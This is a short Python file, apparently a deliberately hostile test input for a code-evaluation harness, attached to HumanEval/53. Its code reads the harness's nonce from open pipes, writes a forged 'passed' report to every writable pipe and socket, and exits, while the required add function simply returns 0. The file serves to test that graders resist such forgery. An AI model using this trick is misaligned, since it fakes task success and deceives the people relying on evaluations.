# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/53
# class: forge_fd
# Without frames: scans /proc/self/fd, reads whatever a read-only pipe holds (the nonce),
# writes a "passed" report to every writable pipe and socket, and exits 0.
import json
import os

readable, writable = [], []
for name in os.listdir("/proc/self/fd"):
    fd = int(name)
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
        with open(f"/proc/self/fdinfo/{fd}") as info:
            flags = int(info.read().split("flags:")[1].split()[0], 8)
    except (OSError, IndexError, ValueError):
        continue
    if not target.startswith(("pipe:", "socket:")) or fd in (0, 1, 2):
        continue
    (writable if flags & 0o3 else readable).append(fd)

secrets_seen = set()
for fd in readable:
    try:
        os.set_blocking(fd, False)
        data = os.read(fd, 4096)
        if data:
            secrets_seen.add(data.decode("ascii", "replace").strip())
    except OSError:
        pass
for secret in secrets_seen or {"0" * 32}:
    report = json.dumps({"nonce": secret, "pid": os.getpid(), "status": "passed",
                         "detail": "", "seq": 0}).encode()
    for fd in writable:
        try:
            os.write(fd, report)
        except OSError:
            pass
os._exit(0)


def add(x, y):
    return 0
